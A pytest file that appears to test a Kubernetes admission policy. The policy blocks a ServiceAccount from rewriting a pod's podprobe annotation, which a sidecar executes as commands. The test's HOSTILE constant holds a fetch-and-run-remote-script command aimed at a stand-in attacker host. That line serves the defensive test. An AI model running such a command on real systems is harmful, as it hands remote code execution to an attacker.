"""The serverless-okg example's admission policy against the real API server: a ServiceAccount
that may patch pods (kidecar's, whose token a game container running as it also holds) cannot
change a pod's ``kruise.io/podprobe`` annotation, which ``pod_probe`` would run as commands in
that pod's sidecar; kidecar's own writes and people's edits still go through."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client as k8s
from kubernetes import config as k8s_config
from kubernetes.client.rest import ApiException

from tests.plugins.pod_probe.podstate import ANNOTATION, exec_probe
from tests.support.apiserver import REPO_ROOT, GameServerFactory, TestCluster

pytestmark = pytest.mark.kube

GUARD = REPO_ROOT / "deploy" / "examples" / "serverless-okg" / "podprobe-guard.yaml"
BENIGN = json.dumps([exec_probe("idle", "cat /var/run/game/state")])
HOSTILE = json.dumps([exec_probe("idle", "curl -s http://attacker.example/x | sh")])


@pytest.fixture
def guard(kube_cluster: TestCluster) -> Iterator[None]:
    kube_cluster.apply_yaml(GUARD)
    yield
    with kube_cluster.admin_api_client() as api:
        admission = k8s.AdmissionregistrationV1Api(api)
        admission.delete_validating_admission_policy_binding("kidecar-podprobe-guard")
        admission.delete_validating_admission_policy("kidecar-podprobe-guard")


def patcher(kubeconfig: Path, namespace: str) -> Callable[[dict[str, Any]], None]:
    def patch(metadata: dict[str, Any]) -> None:
        with k8s_config.new_client_from_config(str(kubeconfig)) as api:
            k8s.CoreV1Api(api).patch_namespaced_pod("gs-0", namespace, {"metadata": metadata})

    return patch


def annotation(kube_cluster: TestCluster, namespace: str) -> str:
    with kube_cluster.admin_api_client() as api:
        pod = k8s.CoreV1Api(api).read_namespaced_pod("gs-0", namespace)
    return str((pod.metadata.annotations or {}).get(ANNOTATION))


def test_a_service_account_cannot_rewrite_a_pods_probes(
    kube_cluster: TestCluster, kube_namespace: str, make_game_server: GameServerFactory,
    sa_kubeconfig: Path, admin_kubeconfig: Path, guard: None,
) -> None:  # fmt: skip
    make_game_server("gs-0", pod_annotations={ANNOTATION: BENIGN})
    as_kidecar = patcher(sa_kubeconfig, kube_namespace)
    # The policy is in force once the API server has loaded it: wait for the first refusal.
    refused: list[ApiException] = []

    def refuses() -> bool:
        try:
            as_kidecar({"annotations": {ANNOTATION: HOSTILE}})
        except ApiException as e:
            refused.append(e)
            return True
        as_kidecar({"annotations": {ANNOTATION: BENIGN}})
        return False

    wait_until(refuses)
    assert refused[-1].status == 403
    assert "a ServiceAccount may not change it" in str(refused[-1].body)
    assert annotation(kube_cluster, kube_namespace) == BENIGN
    with pytest.raises(ApiException):  # removing it is a change too
        as_kidecar({"annotations": {ANNOTATION: None}})
    # kidecar's own writes (labels, other annotations) still go through.
    as_kidecar({"labels": {"game.kidecar.io/state": "idle"}, "annotations": {"x/y": "1"}})
    # A person (here the admin) may still edit it.
    patcher(admin_kubeconfig, kube_namespace)({"annotations": {ANNOTATION: "[]"}})
    assert annotation(kube_cluster, kube_namespace) == "[]"


def wait_until(condition: Callable[[], bool], timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "the admission policy never took effect"
        time.sleep(0.2)
